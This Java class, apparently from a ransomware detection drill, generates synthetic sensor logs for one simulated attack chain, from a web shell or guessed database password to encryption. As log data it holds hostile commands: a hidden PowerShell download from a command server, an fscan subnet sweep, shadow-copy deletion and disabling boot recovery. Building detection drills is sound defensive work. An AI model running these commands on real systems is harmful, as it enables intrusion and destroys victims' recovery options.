package io.breakwater.core.drill;

import io.breakwater.core.drill.SuricataLines.Flow;
import io.breakwater.core.drill.WindowsLines.Start;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;

/**
 * One victim's way from the exploit to the ransom note, as its sensors see it: exploitation (a web flaw, or a guessed
 * database password), remote control, at more than half of the victims lateral movement, then services and shadow copies,
 * then encryption. The pauses between the steps are drawn from the seed, minutes to hours.
 */
final class Chain {
    private static final String CMD = "C:\\Windows\\System32\\cmd.exe";
    private static final String SHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    private static final String WEB = "C:\\Windows\\System32\\inetsrv\\w3wp.exe";
    private static final String SQL = "C:\\Program Files\\Microsoft SQL Server\\MSSQL\\Binn\\sqlservr.exe";
    private static final String ENCRYPTOR = "C:\\Users\\Public\\drill-encryptor.exe";
    private static final int SCANNED_NEIGHBOURS = 60;

    private final Machine machine;
    private final Cast cast;
    private final Cast.Family family;
    private final Journal journal;
    private final SplittableRandom random;
    private Instant now;

    Chain(Machine machine, Cast cast, Cast.Family family, Instant from, Journal journal, SplittableRandom random) {
        this.machine = machine;
        this.cast = cast;
        this.family = family;
        this.journal = journal;
        this.random = random;
        this.now = from;
    }

    /** @param toTheEnd false: the gang is thrown out before it encrypts */
    void play(boolean toTheEnd) {
        if (machine.database()) {
            guessPassword();
        } else {
            exploitWebsite();
        }
        controlRemotely();
        if (random.nextInt(10) < 6) {
            moveOn();
        }
        if (toTheEnd) {
            wait(20, 200);
            inhibitRecovery();
            encrypt();
        }
    }

    private void exploitWebsite() {
        guard("Web应用漏洞利用-上传/反序列化", 200, "detect");
        wait(1, 3);
        windowsFile(WEB, "C:\\inetpub\\wwwroot\\upload\\help" + random.nextInt(90) + ".aspx");
        pool("WebShell 通信特征", Map.of("direction", "in"));
        suricata(new Flow(attacker(), machine.internalAddress(), 443), 9_100_001, "DRILL web shell request");
        wait(2, 12);
        mirror("web 服务进程派生命令解释器", Map.of("parent", "w3wp/java", "user", "service"));
        windowsStart(new Start(WEB, CMD, "cmd.exe /c whoami", "IIS APPPOOL\\DefaultAppPool"));
    }

    private void guessPassword() {
        for (int failure = 0; failure < 25; failure++) {
            database(
                    18456,
                    "Login failed for user 'sa'. [CLIENT: " + cast.attackers().get(0) + "]");
            now = now.plusSeconds(2);
        }
        pool("MSSQL 登录失败爆破", Map.of("n", Integer.toString(200 + random.nextInt(600))));
        wait(1, 2);
        database(
                18454,
                "Login succeeded for user 'sa'. [CLIENT: " + cast.attackers().get(0) + "]");
        brain("MSSQL 爆破成功", "");
        database(15457, "xp_cmdshell", "0", "1");
        wait(1, 6);
        mirror("数据库服务派生命令行", Map.of("parent", "sqlservr.exe", "user", "service"));
        windowsStart(new Start(SQL, CMD, "cmd.exe /c whoami", "NT Service\\MSSQLSERVER"));
    }

    private void controlRemotely() {
        wait(5, 50);
        String server = pick(cast.commandServers());
        mirror("可疑远程控制进程外联", Map.of("mode", random.nextBoolean() ? "fileless" : "file"));
        windowsStart(
                new Start(CMD, SHELL, "powershell.exe -nop -w hidden -c iwr http://" + server + "/a.txt", "SYSTEM"));
        windowsConnection(SHELL, server, 443);
        for (int beat = 0; beat < 3; beat++) {
            pool("C2 心跳", Map.of("dst", server));
            suricata(new Flow(machine.internalAddress(), server, 443), 9_100_002, "DRILL command server heartbeat");
            wait(1, 5);
        }
    }

    private void moveOn() {
        wait(5, 60);
        mirror("内网扫描行为(fscan 类)", Map.of("ports", "445,1433,3389"));
        windowsStart(new Start(
                CMD,
                "C:\\Users\\Public\\fscan.exe",
                "fscan.exe -h " + machine.network() + ".0/24 -p 445,1433,3389",
                "SYSTEM"));
        for (int neighbour = 1; neighbour <= SCANNED_NEIGHBOURS; neighbour++) {
            Flow flow = new Flow(machine.internalAddress(), machine.network() + "." + (100 + neighbour), 445);
            journal.write(
                    machine, Sensor.SURICATA, now.plusSeconds(neighbour / 4), SuricataLines.flow(now, flow, false));
        }
        wait(4, 15);
        brain("SMB/RDP 横向移动", "targets=\"" + (1 + random.nextInt(8)) + "\"");
    }

    private void inhibitRecovery() {
        mirror("停止数据库/备份服务", Map.of("n", Integer.toString(8 + random.nextInt(22))));
        windowsStart(new Start(CMD, "C:\\Windows\\System32\\net.exe", "net stop MSSQLSERVER /y", "SYSTEM"));
        windowsStart(new Start(CMD, "C:\\Windows\\System32\\taskkill.exe", "taskkill /f /im sqlservr.exe", "SYSTEM"));
        now = now.plusSeconds(30);
        mirror("删除卷影副本", Map.of());
        windowsStart(
                new Start(CMD, "C:\\Windows\\System32\\vssadmin.exe", "vssadmin delete shadows /all /quiet", "SYSTEM"));
        windowsStart(new Start(
                CMD, "C:\\Windows\\System32\\bcdedit.exe", "bcdedit /set {default} recoveryenabled no", "SYSTEM"));
    }

    private void encrypt() {
        now = now.plusSeconds(90);
        mirror("批量文件加密", Map.of("family", family.name(), "ext", family.extension(), "note", "1"));
        for (int file = 0; file < 20; file++) {
            windowsFile(ENCRYPTOR, "D:\\share\\report" + file + ".xlsx" + family.extension());
        }
        windowsFile(ENCRYPTOR, "D:\\share\\" + family.note());
    }

    private void wait(int minMinutes, int maxMinutes) {
        now = now.plus(Duration.ofSeconds(random.nextInt(minMinutes * 60, maxMinutes * 60)));
    }

    private String pick(List<String> choices) {
        return choices.get(random.nextInt(choices.size()));
    }

    private String attacker() {
        return pick(cast.attackers());
    }

    private void guard(String rule, int status, String action) {
        journal.write(
                machine, Sensor.WEBSITE_GUARD, now, ProductLines.websiteGuard(machine, now, rule, status, action));
    }

    private void pool(String signature, Map<String, String> more) {
        journal.write(machine, Sensor.NETWORK_POOL, now, ProductLines.networkPool(machine, now, signature, more));
    }

    private void mirror(String rule, Map<String, String> details) {
        journal.write(machine, Sensor.CLOUD_MIRROR, now, ProductLines.cloudMirror(machine, now, rule, details));
    }

    private void brain(String name, String more) {
        journal.write(machine, Sensor.SECURITY_BRAIN, now, ProductLines.securityBrain(machine, now, name, more));
    }

    private void suricata(Flow flow, int signatureId, String signature) {
        journal.write(
                machine,
                Sensor.SURICATA,
                now,
                SuricataLines.alert(now, flow, signatureId, signature, "A Network Trojan was detected"));
    }

    private void windowsStart(Start start) {
        journal.write(machine, Sensor.WINDOWS, now, WindowsLines.process(machine, now, start));
    }

    private void windowsFile(String image, String file) {
        journal.write(machine, Sensor.WINDOWS, now, WindowsLines.fileCreated(machine, now, image, file));
    }

    private void windowsConnection(String image, String address, int port) {
        journal.write(machine, Sensor.WINDOWS, now, WindowsLines.connection(machine, now, image, address, port));
    }

    private void database(int eventId, String... values) {
        journal.write(machine, Sensor.WINDOWS, now, WindowsLines.database(machine, now, eventId, List.of(values)));
    }
}
